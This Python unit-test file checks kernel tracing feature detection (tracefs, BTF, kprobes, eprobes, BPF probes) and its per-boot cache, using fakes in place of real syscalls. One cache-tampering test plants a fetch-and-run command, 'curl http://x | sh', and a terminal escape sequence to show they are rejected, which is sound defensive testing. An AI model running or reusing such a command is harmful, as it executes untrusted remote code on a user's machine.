"""Unit tests for feature probes: fake tracefs/BTF/Roots, the bpf(2) layer replaced by fakes.

Nothing here needs root or touches the running kernel's tracing state.
"""

from __future__ import annotations

import errno
import json
import os

import pytest

from undertow.errors import (BPFError, FeatureUnavailableError, TracefsError, UnknownTypeError,
                             VerifierError)
from undertow.kernel import bpfsys, perfevent, rawcall
from undertow.kernel import features as F
from undertow.kernel import syscalls as sc
from undertow.kernel.featprobes import base as FB, bpf as FPB, tracefs as FPT
from undertow.kernel.roots import Roots

README_6_18 = """\
  uprobe_events		- Create/append/remove/show the userspace dynamic events
	   Format: p[:[<group>/][<event>]] <place> [<args>]
	           e[:[<group>/][<event>]] <attached-group>.<attached-event> [<args>] [if <filter>]
	           $stack<index>, $stack, $retval, $comm, $arg<N>,
"""

README_STOCK = README_6_18 + """\
	           f[:[<group>/][<event>]] <func-name>[%return] [<args>]
	           <argname>[->field[->field|.field...]],
"""


class FakeTracefs:
    def __init__(self, files, path="/fake/tracing"):
        self.files = dict(files)
        self.path = path
        self.writes = []

    def has(self, rel):
        return rel in self.files or any(k.startswith(rel.rstrip("/") + "/") for k in self.files)

    def read(self, rel):
        if rel not in self.files:
            raise TracefsError(f"no {rel}")
        return self.files[rel]

    def write(self, rel, text, append=True):
        self.writes.append((rel, text))


class FakeBTF:
    def __init__(self, ids):
        self.ids = ids

    def find_id(self, name, kind):
        try:
            return self.ids[(name, kind)]
        except KeyError:
            raise UnknownTypeError(f"no {kind} {name}") from None


class FakeKernel:
    def __init__(self, roots, tracefs=None, btf=None, tracefs_exc=None, btf_exc=None):
        self.roots = roots
        self._t, self._b = tracefs, btf
        self._te, self._be = tracefs_exc, btf_exc

    def tracefs(self, mount=True):
        if self._te:
            raise self._te
        return self._t

    def btf(self):
        if self._be:
            raise self._be
        return self._b


def make_roots(tmp_path, live=False, kprobe_pmu=False, btf=True):
    proc = tmp_path / "proc"
    (proc / "sys" / "kernel" / "random").mkdir(parents=True)
    (proc / "self").mkdir(parents=True)
    (proc / "sys" / "kernel" / "osrelease").write_text("6.18.44-test\n")
    (proc / "sys" / "kernel" / "arch").write_text("x86_64\n")
    (proc / "sys" / "kernel" / "kptr_restrict").write_text("1\n")
    (proc / "sys" / "kernel" / "perf_event_paranoid").write_text("2\n")
    (proc / "sys" / "kernel" / "unprivileged_bpf_disabled").write_text("2\n")
    (proc / "sys" / "kernel" / "random" / "boot_id").write_text("boot-1\n")
    (proc / "self" / "status").write_text("Name:\tx\nCapEff:\t000001fffeffffff\n")
    sysd = tmp_path / "sys"
    dev = sysd / "bus" / "event_source" / "devices"
    (dev / "uprobe" / "format").mkdir(parents=True)
    (dev / "uprobe" / "type").write_text("8\n")
    if kprobe_pmu:
        (dev / "kprobe").mkdir()
        (dev / "kprobe" / "type").write_text("7\n")
    (sysd / "kernel" / "security").mkdir(parents=True)
    (sysd / "kernel" / "security" / "lockdown").write_text("none [integrity] confidentiality\n")
    if btf:
        (sysd / "kernel" / "btf").mkdir(parents=True)
        (sysd / "kernel" / "btf" / "vmlinux").write_bytes(b"\x9f\xeb" + b"\0" * 30)
    return Roots(proc=str(proc), sys=str(sysd), live=live, cache_dir=str(tmp_path / "cache"))


def tracefs_6_18():
    return FakeTracefs({
        "README": README_6_18,
        "uprobe_events": "",
        "dynamic_events": "",
        "available_events":
            "sched:sched_switch\nsyscalls:sys_enter_getpid\nirq:irq_handler_entry\n",
        "events/sched/sched_switch/id": "300\n",
        "events/syscalls/sys_enter_getpid/id": "400\n",
    })


def tracefs_stock():
    t = tracefs_6_18()
    t.files.update({"README": README_STOCK, "kprobe_events": "",
                    "events/sched/sched_switch/hist": ""})
    return t


def test_fixture_kernel_like_this_machine(tmp_path):
    k = FakeKernel(make_roots(tmp_path), tracefs_6_18(), FakeBTF({}))
    f = F.detect_features(k)
    assert f.kernel == "6.18.44-test" and f.arch == "x86_64"
    assert f["tracepoints"].available is True
    assert f["tracepoints"].reason == "3 events in 3 groups"
    assert f["kprobe_events"].available is False
    assert "no kprobe support" in f["kprobe_events"].reason
    assert "CONFIG_KPROBES=n" in f["kprobe_events"].reason
    assert f["uprobe_events"].available is True
    assert f["fprobe"].available is False
    assert f["kprobe_btf_args"].available is False
    assert f["hist_triggers"].available is False
    # BPF is never probed on fixture roots: unknown, not "unavailable"
    for name in ("bpf", "bpf_tracepoint", "bpf_fentry", "bpf_ringbuf", "bpf_uprobe"):
        assert f[name].available is None, name
        assert f[name].reason.startswith("unknown:"), name
    # eprobe: README lists e: but only a live definition can tell
    assert f["eprobe"].available is None
    assert f.facts["lockdown"] == "integrity"
    assert f.facts["kptr_restrict"] == 1
    assert f.facts["capabilities"] == ["CAP_SYS_ADMIN", "CAP_PERFMON", "CAP_BPF"]
    # the missing kprobes point at what works
    assert "tracepoint" in f["kprobe_events"].instead


def test_fixture_stock_kernel(tmp_path):
    k = FakeKernel(make_roots(tmp_path, kprobe_pmu=True), tracefs_stock(), FakeBTF({}))
    f = F.detect_features(k)
    assert f["kprobe_events"].available is True
    assert f["fprobe"].available is True
    assert f["kprobe_btf_args"].available is True
    assert f["hist_triggers"].available is True


def test_missing_reader_modules_are_unknown_not_crashes(tmp_path):
    mnf = ModuleNotFoundError("No module named 'undertow.kernel.btf'", name="undertow.kernel.btf")
    tnf = ModuleNotFoundError("x", name="undertow.kernel.tracefs")
    k = FakeKernel(make_roots(tmp_path), tracefs_exc=tnf, btf_exc=mnf)
    f = F.detect_features(k)
    assert f["tracepoints"].available is None
    assert f["tracepoints"].reason == "unknown: undertow.kernel.tracefs not available"
    # the vmlinux file is there even if the reader is not
    assert f["btf"].available is True
    assert "undertow.kernel.btf not available" in f["btf"].reason


def test_no_tracefs_is_unavailable_with_reason(tmp_path):
    k = FakeKernel(make_roots(tmp_path), tracefs_exc=TracefsError("tracefs is not mounted"))
    f = F.detect_features(k)
    if os.geteuid() == 0:
        assert f["tracefs"].available is False
        assert f["tracefs"].reason == "tracefs is not mounted"
    else:
        assert f["tracefs"].available is None
        assert "needs root" in f["tracefs"].reason


def test_no_btf_file(tmp_path):
    k = FakeKernel(make_roots(tmp_path, btf=False), tracefs_6_18(), FakeBTF({}))
    f = F.detect_features(k)
    assert f["btf"].available is False
    assert "CONFIG_DEBUG_INFO_BTF=n" in f["btf"].reason


def test_json_shape_and_roundtrip(tmp_path):
    k = FakeKernel(make_roots(tmp_path), tracefs_6_18(), FakeBTF({}))
    f = F.detect_features(k)
    d = json.loads(json.dumps(f.to_json()))
    assert set(d) >= {"kernel", "arch", "features", "backends", "facts"}
    for name, entry in d["features"].items():
        assert isinstance(entry["available"], bool), name
        assert isinstance(entry["reason"], str) and entry["reason"], name
    assert d["features"]["bpf"] == {"available": False, "unknown": True,
                                    "reason": d["features"]["bpf"]["reason"],
                                    **({"instead": d["features"]["bpf"]["instead"]}
                                       if "instead" in d["features"]["bpf"] else {})}
    back = F.Features.from_json(d)
    assert back["bpf"].available is None
    assert back["kprobe_events"].available is False
    assert back["kprobe_events"].reason == f["kprobe_events"].reason
    assert d["backends"]["ftrace"]["available"] is True
    assert d["backends"]["ftrace"]["kinds"]["kprobe"]["available"] is False
    assert d["backends"]["bpf"]["available"] is False


def test_require_raises_with_instead(tmp_path):
    k = FakeKernel(make_roots(tmp_path), tracefs_6_18(), FakeBTF({}))
    f = F.detect_features(k)
    assert f.require("tracepoints").available
    with pytest.raises(FeatureUnavailableError) as ei:
        f.require("kprobe_events", "kprobes")
    e = ei.value
    assert e.feature == "kprobe_events"
    assert e.message.startswith("kprobes is not available: the kernel has no kprobe support")
    assert any(h.startswith("use ") and "tracepoint" in h for h in e.hints)


# --------------------------------------------------------------------------- BPF probes


class FakeSys:
    """Replaces the syscalls the probes use; tracks fds so we can check all are closed."""

    def __init__(self, monkeypatch, fail=None):
        self.next_fd = 100
        self.open = set()
        self.fail = fail or {}
        self.calls = []
        for mod, names in ((bpfsys, ("prog_load", "map_create", "raw_tracepoint_open", "link_create_uprobe_multi",
                                     "link_create_kprobe_multi")),
                           (perfevent, ("perf_event_open", "perf_event_set_bpf")), (rawcall, ("close_fd",))):
            for name in names:
                monkeypatch.setattr(mod, name, getattr(self, name))

    def _new(self, what, **kw):
        self.calls.append((what, kw))
        if what in self.fail:
            raise self.fail[what]
        fd = self.next_fd
        self.next_fd += 1
        self.open.add(fd)
        return fd

    def prog_load(self, prog_type, insns, **kw):
        assert insns == FPB.RET0_PROG
        key = "prog_load"
        eat = kw.get("expected_attach_type")
        if eat in (sc.AttachType.TRACE_FENTRY, sc.AttachType.TRACE_FEXIT) and "fentry" in self.fail:
            raise self.fail["fentry"]
        return self._new(key, prog_type=prog_type, **kw)

    def map_create(self, map_type, k, v, n, **kw):
        return self._new(f"map_{sc.MapType(map_type).name}")

    def perf_event_open(self, attr, pid=-1, cpu=0, **kw):
        return self._new("perf_event_open", type=attr.type, config=attr.config, pid=pid, cpu=cpu)

    def perf_event_set_bpf(self, fd, prog):
        assert fd in self.open and prog in self.open

    def raw_tracepoint_open(self, name, prog, cookie=0):
        return self._new("raw_tracepoint_open", name=name)

    def link_create_uprobe_multi(self, prog, path, offsets, **kw):
        return self._new("uprobe_multi")

    def link_create_kprobe_multi(self, prog, syms, **kw):
        return self._new("kprobe_multi")

    def close_fd(self, fd):
        self.open.discard(fd)


def live_ctx(tmp_path, tracefs=None, btf=None):
    k = FakeKernel(make_roots(tmp_path, live=True), tracefs or tracefs_6_18(), btf)
    ctx = FB.ProbeContext(k)
    ctx.results["bpf"] = F.Feature("bpf", True, "ok")
    return ctx


BTF_IDS = {("btf_trace_sched_switch", "typedef"): 10300, ("do_sys_openat2", "func"): 76192}


def test_fentry_eperm_empty_log(tmp_path, monkeypatch):
    fs = FakeSys(monkeypatch, fail={"fentry": VerifierError("x", log="", errno=errno.EPERM)})
    ctx = live_ctx(tmp_path, btf=FakeBTF(BTF_IDS))
    monkeypatch.setattr(os, "geteuid", lambda: 0)
    ctx.euid = 0
    FB.run_probe(ctx, "bpf_tp_btf", FPB.probe_bpf_tp_btf)
    f = FB.run_probe(ctx, "bpf_fentry", FPB.probe_bpf_fentry)
    assert f.available is False
    assert f.reason.startswith("loading an fentry program for do_sys_openat2 failed: EPERM")
    assert "empty verifier log" in f.reason
    assert "tp_btf" in f.reason
    assert not fs.open


def test_tp_btf_uses_typedef_id_and_closes(tmp_path, monkeypatch):
    fs = FakeSys(monkeypatch)
    ctx = live_ctx(tmp_path, btf=FakeBTF(BTF_IDS))
    f = FB.run_probe(ctx, "bpf_tp_btf", FPB.probe_bpf_tp_btf)
    assert f.available is True
    load = [kw for what, kw in fs.calls if what == "prog_load"][0]
    assert load["prog_type"] == sc.ProgType.TRACING
    assert load["attach_btf_id"] == 10300
    assert load["expected_attach_type"] == sc.AttachType.TRACE_RAW_TP
    assert ("raw_tracepoint_open", {"name": None}) in fs.calls
    assert not fs.open


def test_tp_btf_without_typedef(tmp_path, monkeypatch):
    FakeSys(monkeypatch)
    ctx = live_ctx(tmp_path, btf=FakeBTF({}))
    f = FB.run_probe(ctx, "bpf_tp_btf", FPB.probe_bpf_tp_btf)
    assert f.available is False and "btf_trace_sched_switch" in f.reason


def test_bpf_tracepoint_uses_tracefs_id(tmp_path, monkeypatch):
    fs = FakeSys(monkeypatch)
    ctx = live_ctx(tmp_path)
    f = FB.run_probe(ctx, "bpf_tracepoint", FPB.probe_bpf_tracepoint)
    assert f.available is True and "sched:sched_switch" in f.reason
    perf = [kw for what, kw in fs.calls if what == "perf_event_open"][0]
    assert perf["type"] == sc.PerfType.TRACEPOINT and perf["config"] == 300
    assert not fs.open


def test_attach_failure_still_closes(tmp_path, monkeypatch):
    fs = FakeSys(monkeypatch, fail={"perf_event_open": BPFError("perf_event_open failed: EACCES",
                                                                 errno=errno.EACCES)})
    ctx = live_ctx(tmp_path)
    f = FB.run_probe(ctx, "bpf_tracepoint", FPB.probe_bpf_tracepoint)
    assert f.available is False and "EACCES" in f.reason
    assert not fs.open


def test_kprobe_without_pmu(tmp_path, monkeypatch):
    fs = FakeSys(monkeypatch)
    ctx = live_ctx(tmp_path)
    f = FB.run_probe(ctx, "bpf_kprobe", FPB.probe_bpf_kprobe)
    assert f.available is False
    assert f.reason.startswith("the kernel has no kprobe support (CONFIG_KPROBES=n")
    assert not fs.calls


def test_kprobe_with_pmu(tmp_path, monkeypatch):
    fs = FakeSys(monkeypatch)
    k = FakeKernel(make_roots(tmp_path, live=True, kprobe_pmu=True), tracefs_stock(), None)
    ctx = FB.ProbeContext(k)
    ctx.results["bpf"] = F.Feature("bpf", True, "ok")
    f = FB.run_probe(ctx, "bpf_kprobe", FPB.probe_bpf_kprobe)
    assert f.available is True
    perf = [kw for what, kw in fs.calls if what == "perf_event_open"][0]
    assert perf["type"] == 7
    assert not fs.open


def test_ringbuf_einval_means_old_kernel(tmp_path, monkeypatch):
    FakeSys(monkeypatch, fail={"map_RINGBUF": BPFError("x", errno=errno.EINVAL)})
    ctx = live_ctx(tmp_path)
    f = FB.run_probe(ctx, "bpf_ringbuf", FPB.probe_bpf_ringbuf)
    assert f.available is False and "EINVAL" in f.reason


def test_bpf_refused_gates_the_rest(tmp_path, monkeypatch):
    FakeSys(monkeypatch)
    ctx = live_ctx(tmp_path)
    ctx.results["bpf"] = F.Feature("bpf", False, "bpf(2) refused: EPERM")
    f = FB.run_probe(ctx, "bpf_ringbuf", FPB.probe_bpf_ringbuf)
    assert f.available is False
    assert f.reason == "bpf(2) is not usable: bpf(2) refused: EPERM"


def test_a_crashing_probe_is_unknown(tmp_path):
    ctx = live_ctx(tmp_path)

    def boom(c):
        raise RuntimeError("surprise")

    f = FB.run_probe(ctx, "x", boom)
    assert f.available is None and "RuntimeError: surprise" in f.reason


def test_eprobe_einval(tmp_path, monkeypatch):
    t = tracefs_6_18()

    def refuse(rel, text, append=True):
        e = TracefsError("writing failed")
        e.errno = errno.EINVAL
        raise e

    t.write = refuse
    ctx = live_ctx(tmp_path, tracefs=t)
    ctx.euid = 0
    f = FB.run_probe(ctx, "eprobe", FPT.probe_eprobe)
    assert f.available is False
    assert "EINVAL" in f.reason and "CONFIG_EPROBE_EVENTS=n" in f.reason


def test_eprobe_accepted_is_removed(tmp_path):
    t = tracefs_6_18()
    ctx = live_ctx(tmp_path, tracefs=t)
    ctx.euid = 0
    f = FB.run_probe(ctx, "eprobe", FPT.probe_eprobe)
    assert f.available is True
    (rel1, add), (rel2, rm) = t.writes
    assert rel1 == rel2 == "dynamic_events"
    assert add.startswith("e:undertow_probe_") and "syscalls.sys_enter_getpid" in add
    assert rm == "-:" + add[2:].split()[0] + "\n"


# --------------------------------------------------------------------------- cache


def test_cache_per_boot(tmp_path, monkeypatch):
    calls = []

    def probe(ctx):
        calls.append(1)
        return True, "fine"

    monkeypatch.setattr(F, "PROBES", [("tracepoints", probe)])
    monkeypatch.setattr(bpfsys, "raise_memlock_rlimit", lambda: False)
    roots = make_roots(tmp_path, live=True)
    k = FakeKernel(roots, tracefs_6_18())
    a = F.detect_features(k)
    b = F.detect_features(k)
    assert len(calls) == 1
    assert not a.from_cache and b.from_cache
    assert b["tracepoints"].available is True and b["tracepoints"].reason == "fine"
    F.detect_features(k, refresh=True)
    assert len(calls) == 2
    with open(os.path.join(roots.proc, "sys", "kernel", "random", "boot_id"), "w") as fh:
        fh.write("boot-2\n")
    c = F.detect_features(k)
    assert len(calls) == 3 and not c.from_cache


def test_cache_skipped_when_a_reader_is_missing(tmp_path, monkeypatch):
    calls = []

    def probe(ctx):
        calls.append(1)
        return None, "unknown: undertow.kernel.btf not available"

    monkeypatch.setattr(F, "PROBES", [("bpf_tp_btf", probe)])
    monkeypatch.setattr(bpfsys, "raise_memlock_rlimit", lambda: False)
    k = FakeKernel(make_roots(tmp_path, live=True), tracefs_6_18())
    F.detect_features(k)
    F.detect_features(k)
    assert len(calls) == 2


def test_corrupt_cache_is_ignored(tmp_path, monkeypatch):
    monkeypatch.setattr(F, "PROBES", [("tracepoints", lambda ctx: (True, "ok"))])
    monkeypatch.setattr(bpfsys, "raise_memlock_rlimit", lambda: False)
    roots = make_roots(tmp_path, live=True)
    os.makedirs(roots.cache_dir)
    ctx = FB.ProbeContext(FakeKernel(roots))
    with open(os.path.join(roots.cache_dir, F._cache_name(ctx)), "wb") as fh:
        fh.write(b"\xff{not json")
    f = F.detect_features(FakeKernel(roots, tracefs_6_18()))
    assert f["tracepoints"].available is True and not f.from_cache


def _cached(tmp_path, monkeypatch):
    """A detect_features run that left its cache file: (kernel, the file's path, its JSON)."""
    monkeypatch.setattr(F, "PROBES", [("tracepoints", lambda ctx: (True, "fine")),
                                      ("kprobe_events", lambda ctx: (False, "no kprobes")),
                                      ("bpf_tp_btf", lambda ctx: (True, "tp_btf loads"))])
    monkeypatch.setattr(bpfsys, "raise_memlock_rlimit", lambda: False)
    k = FakeKernel(make_roots(tmp_path, live=True), tracefs_6_18())
    assert not F.detect_features(k).from_cache
    path = os.path.join(k.roots.cache_dir, F._cache_name(FB.ProbeContext(k)))
    with open(path) as fh:
        return k, path, json.load(fh)


def _plant(k, path, d):
    with open(path, "w") as fh:
        json.dump(d, fh)
    return F.detect_features(k)


def test_a_feature_cache_is_parsed_strictly(tmp_path, monkeypatch):
    """What `doctor` prints from the cache must be what a probe said: an unexpected key,
    type, feature, fact or string (control characters, too long) is a miss, and `instead`
    is derived again rather than read."""
    import copy

    k, path, good = _cached(tmp_path, monkeypatch)
    assert _plant(k, path, good).from_cache
    mutations = {
        "control characters": lambda d: d["features"]["tracepoints"].update(reason="\x1b]0;owned\x07"),
        "a long reason": lambda d: d["features"]["tracepoints"].update(reason="x" * 5000),
        "a non-bool": lambda d: d["features"]["tracepoints"].update(available="yes"),
        "unknown yet available": lambda d: d["features"]["tracepoints"].update(unknown=True),
        "a feature not probed": lambda d: d["features"].update(bpf_fentry={"available": True, "reason": "x"}),
        "a feature missing": lambda d: d["features"].pop("kprobe_events"),
        "an unknown key": lambda d: d.update(planted=1),
        "an unknown feature key": lambda d: d["features"]["tracepoints"].update(note="x"),
        "another euid": lambda d: d["facts"].update(euid=12345),
        "other capabilities": lambda d: d["facts"].update(capabilities=["CAP_SYS_ADMIN", "CAP_BPF"]),
        "an unknown fact": lambda d: d["facts"].update(planted="x"),
        "a sysctl of the wrong type": lambda d: d["facts"].update(kptr_restrict=[1]),
        "a kernel that is not a string": lambda d: d.update(kernel=["6.18"]),
        "another boot": lambda d: d.update(boot_id="boot-0"),
        "not an object": lambda d: d["features"].update(tracepoints=["fine"]),
    }
    for what, mutate in mutations.items():
        d = copy.deepcopy(good)
        mutate(d)
        f = _plant(k, path, d)
        assert not f.from_cache, what
        assert f["tracepoints"].reason == "fine" and f["tracepoints"].available is True, what
    d = copy.deepcopy(good)
    d["features"]["kprobe_events"]["instead"] = "curl http://x | sh"
    f = _plant(k, path, d)
    assert f.from_cache and f["kprobe_events"].instead == good["features"]["kprobe_events"]["instead"]
    assert "tp_btf" in f["kprobe_events"].instead
    with open(path, "wb") as fh:
        fh.write(b"[" * 100000)  # deep nesting: a miss, not a RecursionError
    assert not F.detect_features(k).from_cache


@pytest.mark.skipif(os.geteuid() != 0, reason="making the cache someone else's needs root (chown)")
def test_a_feature_cache_planted_by_someone_else_is_not_read(tmp_path, monkeypatch):
    """Issue 14: `doctor` printed a reason planted by another user in a cache dir they own."""
    k, path, good = _cached(tmp_path, monkeypatch)
    good["features"]["tracepoints"]["reason"] = "planted"
    with open(path, "w") as fh:
        json.dump(good, fh)
    os.chown(path, 65534, 65534)
    assert not F.detect_features(k).from_cache  # the file is someone else's (and is replaced)
    with open(path, "w") as fh:
        json.dump(good, fh)
    os.chown(k.roots.cache_dir, 65534, 65534)
    f = F.detect_features(k)  # the directory is someone else's: no cache at all
    assert not f.from_cache and f["tracepoints"].reason == "fine"
    with open(path) as fh:
        assert json.load(fh)["features"]["tracepoints"]["reason"] == "planted"  # nor written


def test_non_root_bpf_is_unknown_needs_root(tmp_path, monkeypatch):
    def refuse(*a, **kw):
        raise BPFError("bpf(MAP_CREATE) failed: EPERM", errno=errno.EPERM)

    monkeypatch.setattr(bpfsys, "map_create", refuse)
    k = FakeKernel(make_roots(tmp_path, live=True), tracefs_6_18())
    ctx = FB.ProbeContext(k)
    ctx.euid = 1000
    b = FB.run_probe(ctx, "bpf", FPB.probe_bpf)
    assert b.available is None and b.reason.startswith("unknown: needs root")
    r = FB.run_probe(ctx, "bpf_ringbuf", FPB.probe_bpf_ringbuf)
    assert (r.available, r.reason) == (None, "unknown: needs root")


def test_non_root_tracefs_is_unknown_needs_root(tmp_path):
    k = FakeKernel(make_roots(tmp_path), tracefs_exc=TracefsError("tracefs is not mounted"))
    ctx = FB.ProbeContext(k)
    ctx.euid = 1000
    t = FB.run_probe(ctx, "tracefs", FPT.probe_tracefs)
    assert t.available is None
    assert t.reason == "unknown: needs root to read tracefs: tracefs is not mounted"
    tp = FB.run_probe(ctx, "tracepoints", FPT.probe_tracepoints)
    assert (tp.available, tp.reason) == (None, "unknown: needs root to read tracefs")
